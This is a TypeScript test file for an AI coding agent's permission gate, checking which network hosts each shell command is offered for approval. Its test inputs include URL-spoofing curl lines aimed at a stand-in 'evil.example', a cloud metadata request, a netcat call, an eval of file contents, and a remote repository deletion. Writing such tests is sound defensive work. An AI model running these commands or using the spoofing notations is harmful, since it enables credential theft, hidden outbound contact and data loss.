/** The network that a command line is known to need: exactly what a prompt offers. */
import { type ApprovalAnswer, textOf } from "../../../src/core/mod.ts";
import type { GateOptions, NetworkNeed } from "../../../src/permission/mod.ts";
import { assert, assertEquals } from "../../support/assert.ts";
import { makeTempDir } from "../../support/tool_context.ts";
import { attended, bash } from "./scene.ts";

const NEVER = new AbortController().signal;

interface Asking {
  readonly answer?: ApprovalAnswer;
  readonly online?: boolean;
  readonly more?: Partial<GateOptions>;
}

function gateIn(cwd: string, { answer, online = false, more }: Asking = {}) {
  return attended(answer ?? { allow: false, scope: "once" }, {}, {
    home: "/home/ada",
    env: () => ({}),
    commandEnvironment: () => Promise.resolve({ privateDirectories: ["/tmp"], network: online }),
    sandbox: {
      missing: (need: NetworkNeed, granted) => {
        const hosts = need.hosts.filter((host) => !granted.has(host));
        return Promise.resolve(need.hosts.length > 0 && hosts.length === 0 ? undefined : { hosts });
      },
      openDirectory: () => Promise.resolve(),
    },
    ...more,
  }, cwd);
}

/** The offer for a line: its hosts, `*` for any, nothing for none. */
async function offered(line: string, cwd = "/w"): Promise<string> {
  const { gate, asked } = gateIn(cwd);
  await gate.check(bash(line), NEVER);
  const { network } = asked[0] ?? {};
  return network === undefined ? "" : network.hosts.join(" ") || "*";
}

async function assertOffers(lines: Readonly<Record<string, string>>, cwd?: string): Promise<void> {
  const found: Record<string, string> = {};
  for (const line of Object.keys(lines)) found[line] = await offered(line, cwd);
  assertEquals(found, lines, cwd);
}

Deno.test("known network commands name the hosts they contact, and no others do", async () => {
  const lines = {
    "npm install left-pad": "registry.npmjs.org",
    "sudo -n npm ci": "registry.npmjs.org",
    "timeout 60 pip install requests": "pypi.org files.pythonhosted.org",
    "go mod download": "proxy.golang.org sum.golang.org",
    "cargo fetch": "crates.io index.crates.io static.crates.io",
    "npx create-vite": "registry.npmjs.org",
    "sh -c 'npm install'": "registry.npmjs.org",
    "curl -fsSL https://example.com/install.sh -o x.sh": "example.com",
    "curl https://example.com:8443/a http://b.example/": "example.com:8443 b.example",
    "wget http://nexus/a": "nexus",
    "git clone https://github.com/denoland/std": "github.com",
    "git clone git@github.com:denoland/std.git": "*",
    "git clone ssh://git@github.com/denoland/std": "*",
    "gh pr list": "api.github.com github.com",
    "docker pull alpine": "*",
    "curl example.com": "*",
    "npm test": "",
    "npm run build": "",
    "git commit -m x": "",
    "make": "",
    "cargo build": "",
    "curl http://localhost:3000/": "",
    "curl http://127.0.0.1/ https://example.com/": "",
    "curl http://169.254.169.254/latest/meta-data/": "",
    "curl 'http://[::1]/'": "",
  };
  await assertOffers(lines);
});

Deno.test("a compound line is offered only the hosts that its commands name", async () => {
  const lines = {
    "npm ci && curl https://a.example/x": "registry.npmjs.org a.example",
    "echo https://b.example; npm ci": "registry.npmjs.org",
    "U=https://c.example; curl $U": "c.example",
    "npm ci && $(cat tool)": "registry.npmjs.org",
    "curl $(cat url)": "*",
    'eval "$(cat x)"; npm ci': "registry.npmjs.org",
    "npm ci; nc d.example 99": "*",
  };
  await assertOffers(lines);
});

Deno.test("a host is named as it is contacted, for any notation of its address", async () => {
  const lines = {
    "curl https://registry.npmjs.org@evil.example/": "evil.example",
    "curl https://registry.npmjs.org:pw@evil.example/": "evil.example",
    "curl https://evil.example/registry.npmjs.org": "evil.example",
    "curl 'https://evil.example#@registry.npmjs.org/'": "evil.example",
    "curl 'https://evil.example\\@registry.npmjs.org/'": "evil.example",
    "curl HTTPS://EVIL.example./": "evil.example",
    "curl https://аpple.example/": "xn--pple-43d.example",
    "npm install --registry=https://evil.example/": "registry.npmjs.org evil.example",
  };
  await assertOffers(lines);
});

Deno.test("git contacts the remote that its arguments select", async () => {
  await using directory = await makeTempDir();
  const cwd = directory.path;
  await Deno.mkdir(`${cwd}/.git`);
  await Deno.mkdir(`${cwd}/src`);
  const config = [
    '[remote "origin"]',
    "\turl = https://github.com/o/r.git",
    '[remote "mirror"]',
    "\turl = https://mirror.example/o/r.git",
    "\tpushurl = https://push.example/o/r.git",
    '[remote "ssh"]',
    "\turl = git@github.com:o/r.git",
  ].join("\n");
  await Deno.writeTextFile(`${cwd}/.git/config`, config);
  const lines = {
    "git fetch": "github.com",
    "git pull origin main": "github.com",
    "git fetch mirror": "mirror.example push.example",
    "git fetch ssh": "*",
    "git push": "github.com",
    "git submodule update": "*",
  };
  for (const directory of [cwd, `${cwd}/src`]) {
    await assertOffers(lines, directory);
  }
});

Deno.test("a remote deletion is offered no network, and prompts as such with network access", async () => {
  const line = "gh repo delete o/r --yes";
  const { gate, asked } = gateIn("/w", { answer: { allow: true, scope: "once", network: "session" } });
  await gate.check(bash(line), NEVER);
  assertEquals([asked[0]?.network, asked[0]?.destructive], [undefined, undefined]);
  await gate.check(bash("gh pr list"), NEVER);
  await gate.check(bash(line), NEVER);
  assertEquals(asked[2]?.destructive?.map(({ reason }) => textOf(reason)), [
    "gh deletes on another machine (delete)",
  ]);
  assertEquals(asked[2]?.network, undefined);
});

Deno.test("an approval grants the offered network for the call, the session or the project", async () => {
  const saved: string[][] = [];
  const saveHosts = (hosts: readonly string[]) => Promise.resolve(void saved.push([...hosts]));
  const line = "npm install left-pad";
  for (const network of ["once", "session", "project"] as const) {
    const { gate, asked } = gateIn("/w", {
      answer: { allow: true, scope: "once", network },
      more: { saveHosts },
    });
    const call = bash(line);
    const { reason = "" } = await gate.check(call, NEVER);
    assertEquals(textOf(reason), `with network (${network}): registry.npmjs.org`);
    assertEquals(asked[0]?.savesHosts, true);
    assertEquals([...gate.grants.hosts], network === "once" ? [] : ["registry.npmjs.org"]);
    assertEquals(gate.takeNetwork(call.call.id), { hosts: ["registry.npmjs.org"] });
    assertEquals(gate.takeNetwork(call.call.id), undefined, "it was taken twice");
    await gate.check(call, NEVER);
    assertEquals(asked[1]?.network === undefined, network !== "once");
  }
  assertEquals(saved, [["registry.npmjs.org"]]);
});

Deno.test("an approval grants no network that was not offered, and any host is never permanent", async () => {
  const answer = { allow: true, scope: "once", network: "project" } as const;
  const saved: string[][] = [];
  const saveHosts = (hosts: readonly string[]) => Promise.resolve(void saved.push([...hosts]));
  const { gate, asked } = gateIn("/w", { answer, more: { saveHosts } });
  const plain = bash("npm test");
  await gate.check(plain, NEVER);
  assertEquals(gate.takeNetwork(plain.call.id), undefined);
  const any = bash("docker pull alpine");
  await gate.check(any, NEVER);
  assertEquals(asked[1]?.savesHosts, undefined);
  assertEquals(gate.grants.hosts.size, 0);
  assertEquals(saved.flat(), []);
});

Deno.test("a call that would fail is returned to the model without a prompt", async () => {
  const failure = { content: "error: a.js has not been read", summary: "a.js has not been read" };
  const { gate, asked } = gateIn("/w", { more: { preview: () => Promise.resolve({ failure }) } });
  const decision = await gate.check(bash("touch a.js"), NEVER);
  assertEquals(asked, []);
  assertEquals(decision.failure, failure);
  assertEquals(decision.decision, "deny");
});

Deno.test("a failure is not quoted when a rule requires approval", async () => {
  const failure = { content: "error: no such text; the nearest is SECRET", summary: "the nearest is SECRET" };
  const policy = { mode: "ask", allow: [], ask: [{ text: "Bash(touch:*)" }], deny: [] } as const;
  const { gate, asked } = gateIn("/w", { more: { policy, preview: () => Promise.resolve({ failure }) } });
  const decision = await gate.check(bash("touch a.js"), NEVER);
  assertEquals(asked, []);
  assert(decision.failure !== undefined && !JSON.stringify(decision).includes("SECRET"));
});

Deno.test("a directory outside of the roots requires approval before the call itself", async () => {
  const opened: string[] = [];
  const failure = { content: "error: outside", summary: "outside" };
  const preview = () =>
    Promise.resolve(opened.length === 0 ? { failure, outside: "/other" } : { changes: [] });
  const missing = () => Promise.resolve(undefined);
  const openDirectory = (directory: string) => Promise.resolve(void opened.push(directory));
  const more = { preview, sandbox: { missing, openDirectory } };
  const refused = gateIn("/w", { more });
  assertEquals((await refused.gate.check(bash("touch /other/x"), NEVER)).decision, "deny");
  assertEquals([refused.asked.map(({ directory }) => directory), opened], [["/other"], []]);
  const allowed = gateIn("/w", { more, answer: { allow: true, scope: "once" } });
  assertEquals((await allowed.gate.check(bash("touch /other/x"), NEVER)).decision, "allow");
  assertEquals([allowed.asked.map(({ directory }) => directory), opened], [["/other", undefined], [
    "/other",
  ]]);
  assert(allowed.asked.every(({ scopes }, index) => index > 0 || scopes.join() === "once"));
});
